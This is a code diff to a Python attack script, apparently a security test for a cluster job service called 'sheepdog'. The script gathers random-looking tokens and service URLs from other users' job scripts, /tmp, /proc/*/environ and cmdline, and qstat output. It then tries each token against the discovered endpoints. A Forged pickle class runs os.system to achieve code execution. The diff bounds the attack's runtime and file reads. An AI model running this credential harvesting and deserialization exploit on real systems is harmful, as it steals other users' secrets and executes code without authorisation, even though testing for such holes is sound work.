@@ -28,6 +28,7 @@ import pickle
 import re
 import ssl
 import subprocess
+import time
 import sys
 import urllib.parse
 
@@ -38,10 +39,10 @@ URL = re.compile(rb"https?://[A-Za-z0-9.\-]+:\d+")
 SOURCES = [
     "/var/spool/gridengine/execd/*/job_scripts/*",
     "/var/spool/gridengine/execd/*/active_jobs/*/*",
-    "/tmp/*", "/tmp/*/*", "/tmp/*/*/*",
     "/home/*/.sheepdog/*",
     "/proc/[0-9]*/cmdline",
     "/proc/[0-9]*/environ",
+    "/tmp/*", "/tmp/*/*", "/tmp/*/*/*",
 ]
 
 
@@ -55,27 +56,43 @@ class Forged:
         return (os.system, (f"id > {self.marker}",))
 
 
+#: Bounds on the attack, so that a machine with many long-running processes (and so
+#: many tokens in /proc) cannot make it run for hours: what it left out is reported.
+MAX_FILES = 5000
+MAX_BYTES = 64 << 20
+MAX_ATTEMPTS = 20000
+BUDGET_SECONDS = float(os.environ.get("SHEEPDOG_ATTACK_SECONDS", "150"))
+
+
 def harvest():
-    """(tokens, urls, paths read) from everything this account can read."""
-    texts, read = [], []
+    """(tokens, urls, paths read, files left unread) from what this account can read.
+
+    Tokens come in the order of their sources: the scheduler's own first, so that
+    the bounds never leave out what a job shows.
+    """
+    try:
+        texts = [subprocess.run(["qstat", "-j", "*"], capture_output=True, timeout=30).stdout]
+        read = ["qstat -j *"]
+    except (OSError, subprocess.SubprocessError):
+        texts, read = [], []
+    budget, unread = MAX_BYTES, 0
     for pattern in SOURCES:
         for path in glob.glob(pattern):
+            if len(read) >= MAX_FILES or budget <= 0:
+                unread += 1
+                continue
             try:
                 with open(path, "rb") as handle:
-                    texts.append(handle.read(1 << 20))
+                    texts.append(handle.read(min(1 << 20, budget)))
+                budget -= len(texts[-1])
                 read.append(path)
             except OSError:
                 pass
-    try:
-        texts.append(subprocess.run(["qstat", "-j", "*"], capture_output=True, timeout=30).stdout)
-        read.append("qstat -j *")
-    except (OSError, subprocess.SubprocessError):
-        pass
-    tokens, urls = set(), set()
+    tokens, urls = {}, set()
     for text in texts:
-        tokens.update(token for token in TOKEN.findall(text) if _looks_random(token))
+        tokens.update((token, None) for token in TOKEN.findall(text) if _looks_random(token))
         urls.update(match.decode() for match in URL.findall(text))
-    return sorted(tokens), sorted(urls), read
+    return list(tokens), sorted(urls), read, unread
 
 
 def _looks_random(token):
@@ -131,22 +148,27 @@ def attempt(url, method, path, body, headers):
 
 def main():
     request_id, marker, *given_urls = sys.argv[1:]
-    tokens, urls, read = harvest()
+    deadline = time.monotonic() + BUDGET_SECONDS
+    tokens, urls, read, unread = harvest()
     urls = sorted(set(urls) | set(given_urls))
-    statuses, accepted = {}, []
+    statuses, accepted, tried = {}, [], set()
     for url in urls:
         if not isinstance(attempt(url, "GET", "/", None, {}), int):
             statuses["unreachable " + url] = 1  # a stale address: nothing listens there
             continue
-        for method, path, body in routes(request_id, marker):
-            for token in tokens:
+        for token in tokens:
+            if sum(statuses.values()) >= MAX_ATTEMPTS or time.monotonic() > deadline:
+                break
+            tried.add(token)
+            for method, path, body in routes(request_id, marker):
                 for headers in credentials(token, method, path, body):
                     status = attempt(url, method, path, body, headers)
                     statuses[str(status)] = statuses.get(str(status), 0) + 1
                     if isinstance(status, int) and status < 300:
                         accepted.append([url, method, path, token.decode("ascii", "replace")])
     print(json.dumps({"read": read, "tokens": len(tokens), "urls": urls,
-                      "statuses": statuses, "accepted": accepted}))
+                      "statuses": statuses, "accepted": accepted,
+                      "skipped": {"files": unread, "tokens": len(tokens) - len(tried)}}))
 
 
 if __name__ == "__main__":
